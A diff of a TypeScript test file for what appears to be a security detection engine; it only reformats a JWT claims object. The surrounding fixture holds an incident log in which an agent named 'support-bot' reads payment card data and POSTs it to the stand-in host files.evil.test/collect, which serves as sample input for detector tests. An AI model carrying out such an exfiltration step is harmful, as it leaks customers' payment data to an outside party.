@@ -4,7 +4,14 @@ import { getFinding } from '#shared/engine/store/read/findings.ts';
 import { detect } from '#test/support/detect.ts';
 
 const everything = detectors.map((detector) => detector.id);
-const claims = { iss: 'https://id.acme.test', aud: 'shop', sub: 'support-bot', iat: 1_790_000_000, exp: 1_890_000_000, scope: 'a:read b:read c:read d:read e:read f:read g:read h:read' };
+const claims = {
+  iss: 'https://id.acme.test',
+  aud: 'shop',
+  sub: 'support-bot',
+  iat: 1_790_000_000,
+  exp: 1_890_000_000,
+  scope: 'a:read b:read c:read d:read e:read f:read g:read h:read',
+};
 const incident = `
   00:02  agent:support-bot  GET   api.acme.test/v1/cards/cus_90aa17b2  200  in=har.har s=3 types=payment-card trace=t1 cred=jwt-1 => $.number=4929fk7714xx2203
   00:06  -                  POST  files.evil.test/collect              200  in=har.har bytes=640 sent=payment-card trace=t1 <= $.a=4929fk7714xx2203
